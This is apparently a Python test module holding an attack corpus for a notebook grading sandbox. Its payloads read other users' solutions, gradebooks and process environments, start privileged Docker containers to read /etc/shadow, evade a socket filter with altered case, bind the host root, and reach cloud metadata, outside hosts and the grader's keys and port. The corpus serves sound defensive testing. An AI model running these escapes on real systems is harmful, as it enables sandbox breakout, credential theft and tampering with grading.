"""Reading, and reaching out: what is not theirs, on this computer and beyond.

Each prints REACHED, or what a canary of the tests holds, only when it has what it wants.
"""

from __future__ import annotations

from tests.attack_corpus.attack import Attack

WALK = """import os
words = ("BEGIN SOLUTION", "CANARY", "gradebook", "submitted")
seen = []
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        continue
    for name in names:
        if any(word.lower() in name.lower() for word in words):
            try:
                seen.append((os.path.join(folder, name), open(os.path.join(folder, name), "rb").read(100)))
            except OSError as error:
                print(error)
print(seen)
"""

ENVIRONMENT = """import glob
for file in glob.glob("/proc/*/environ"):
    try:
        print(open(file, "rb").read().replace(b"\\\\0", b" "))
    except OSError:
        pass
"""

PRIVILEGED = """import docker, subprocess
client = docker.from_env()
for options in ({"privileged": True}, {"pid_mode": "host"}, {"volumes": ["/:/host"]}, {"cap_add": ["SYS_ADMIN"]},
             {"devices": ["/dev/ubda"]}, {"security_opt": ["seccomp=unconfined"]}):
    try:
        script = "mkdir -p /h; mount -t hostfs none /h; ls /h /host; cat /h/etc/shadow /host/etc/shadow; true"
        print(client.containers.run("drydock/busybox:1.37", ["sh", "-c", script], remove=True, **options))
        print("REA" + "CHED", options)
    except Exception as error:
        print(error)
"""

LOWER_CASE = """import http.client, json, socket
line = http.client.HTTPConnection("docker")
line.sock = socket.socket(socket.AF_UNIX)
line.sock.connect("/var/run/docker.sock")
body = {"image": "drydock/busybox:1.37", "cmd": ["true"], "hostconfig": {"PRIVILEGED": True, "binds": ["/:/host"]}}
line.request("POST", "/containers/create?name=service", json.dumps(body), {"Content-Type": "application/json"})
answer = line.getresponse()
print(answer.read(), "REA" + "CHED" if answer.status == 201 else "")
"""

LINK = """import docker, os
os.symlink("/", "out")
print(docker.from_env().containers.run("drydock/busybox:1.37", "cat /h/etc/shadow", volumes=[os.getcwd() + "/out:/h"]))
print("REA" + "CHED")
"""

OUT = """import socket
for place in [("1.1.1.1", 80), ("8.8.8.8", 53), ("10.0.2.2", 22), ("10.0.2.2", {port}), ("10.0.2.3", 53),
              ("169.254.169.254", 80), ("127.0.0.1", {port}), ("172.17.0.1", {port})]:
    try:
        socket.create_connection(place, timeout=2).sendall(b"an attacker was here")
        print("REA" + "CHED", place)
    except OSError as error:
        print(place, error)
"""

FROM_A_CONTAINER = (
    """import docker
program = """
    + repr(
        """import socket, ssl
context = ssl._create_unverified_context()
def reached(place):
    try:
        line = socket.create_connection(place, timeout=2)
        if place[1] == 2376:
            line = context.wrap_socket(line)
        line.sendall(b"GET /containers/json HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return line.recv(100)
    except OSError as error:
        return str(error).encode()
for place in [("1.1.1.1", 80), ("10.0.2.2", PORT), ("10.0.2.3", 53), ("169.254.169.254", 80), ("10.0.2.100", 2376),
              ("10.0.2.100", 22), ("172.17.0.1", 2376), ("172.17.0.1", PORT)]:
    answer = reached(place)
    print(place, answer, "REA" + "CHED" if b"HTTP/1.1 200" in answer else "")
"""
    )
    + """
place = ("10.0.2.2", {port})
program = program.replace("PORT", str(place[1]))
print(docker.from_env().containers.run("drydock/python:3.13", ["python3", "-c", program], remove=True).decode())
"""
)

GRADER = """import http.client, os, ssl
for folder, _, names in os.walk("/"):
    for name in names:
        if name.endswith(("key.pem", "cert.pem", "id_ed25519")) and not folder.startswith(("/proc", "/sys")):
            print(os.path.join(folder, name))
line = http.client.HTTPSConnection("127.0.0.1", 2376, timeout=5, context=ssl._create_unverified_context())
line.request("POST", "/containers/prune")
status = line.getresponse().status
print(status, "REA" + "CHED" if status == 200 else "")
"""

ATTACKS = {
    "files": Attack("Walks every folder for solutions, gradebooks and others' work.", WALK, "bubblewrap"),
    "environment": Attack("Reads the variables of every process it can see.", ENVIRONMENT, "bubblewrap"),
    "privileged": Attack(
        "Asks for privileged containers and mounts this computer's files in them.", PRIVILEGED, "proxy"
    ),
    "lower-case": Attack("Asks for one in letters that a filter may not read as the daemon does.", LOWER_CASE, "proxy"),
    "link": Attack("Binds a folder of its own that is a link to the root.", LINK, "proxy"),
    "network": Attack("Connects to the outside, the host's loopback and cloud metadata.", OUT, "bubblewrap"),
    "grader": Attack("Looks for the grader's keys, and asks the daemon over the grader's port.", GRADER, "proxy"),
    "volumes-from": Attack(
        "Takes over the daemon's socket from the grader's container, to use it after the run.",
        "import docker, socket\nclient = docker.from_env()\n"
        "for one in client.containers.list():\n"
        "    client.containers.run('drydock/python:3.13', 'sleep 600', volumes_from=[one.id], detach=True)\n"
        "    print('REA' + 'CHED')",
        "proxy",
    ),
    "bind-socket": Attack(
        "Binds the daemon's socket into a container that outlives the notebook.",
        "import docker\nbinds = ['/var/run/docker.sock:/var/run/docker.sock']\n"
        "docker.from_env().containers.run('drydock/python:3.13', 'sleep 600', volumes=binds, detach=True)\n"
        "print('REA' + 'CHED')",
        "proxy",
    ),
    "volume-driver": Attack(
        "Makes a volume that is a bind of the root.",
        "import docker\noptions = {'type': 'none', 'o': 'bind', 'device': '/'}\n"
        "docker.from_env().volumes.create('root', driver_opts=options)\nprint('REA' + 'CHED')",
        "proxy",
    ),
    "others-files": Attack(
        "Is submitted with files whose names lead out of its folder.",
        "print('looked')",
        "its own folder",
        files={"../outside.txt": b"out", "..%2Foutside.txt": b"out", "a/b/c.txt": b"in"},
        states=("graded",),
    ),
    "network-of-a-container": Attack(
        "Combines two: a container connects to the outside, to the grader's port and to the machine's own services.",
        FROM_A_CONTAINER,
        "bubblewrap",
        states=("graded", "crashed"),
        combined=True,
    ),
}
